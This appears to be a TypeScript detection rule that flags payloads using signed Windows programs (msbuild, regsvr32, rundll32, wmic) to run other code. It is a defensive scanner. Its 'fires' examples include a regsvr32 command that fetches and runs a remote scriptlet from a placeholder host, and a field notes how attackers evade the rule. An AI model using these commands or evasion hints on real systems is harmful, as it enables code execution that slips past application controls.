import { PROXIES } from '../facts/proxies.data';
import type { Payload, Program } from '../payload/payload';
import type { Evidence } from './judgement';
import { defineJudgement, techniques } from './judgement';
import { runsLocalFiles } from './local-proxy';
import { byProgram, distinct } from './payload-evidence';

/** A signed program that runs other code. */
export const proxy = defineJudgement<Payload>({
  id: 'proxy',
  part: 'consumer',
  field: 'Destination',
  weight: 'high',
  techniques: techniques(...new Set(PROXIES.map(({ technique }) => technique))),
  summary: 'The payload starts a Microsoft program that runs the code of others, so that the code looks signed.',
  howWrong:
    'Installers and old management scripts use msiexec, regsvr32, rundll32 and wmic; with local files only, outside places that users other than administrators can write to, the first three weigh less.',
  evades: 'Uses a signed program that is on no list, or copies one under another name.',
  examples: {
    fires: [
      'C:\\Windows\\System32\\msbuild.exe C:\\Temp\\a.xml',
      'regsvr32 /s /u /i:http://a.example/x.sct scrobj.dll',
      'explorer.exe \\\\srv\\share\\a.lnk',
    ],
    silent: ['C:\\Tools\\msbuild-log-viewer.exe', 'C:\\Windows\\explorer.exe'],
  },
  judge: (payload) =>
    distinct(
      payload,
      payload.programs.flatMap((program) => evidenceOf(payload, program)),
    ),
});

function evidenceOf(payload: Payload, program: Program): readonly Evidence[] {
  const found = byProgram({ ...payload, programs: [program] }, PROXIES);
  return runsLocalFiles(program)
    ? found.map((one) => ({ ...one, weight: 'medium', reason: `${one.reason}; only local files here` }))
    : found;
}
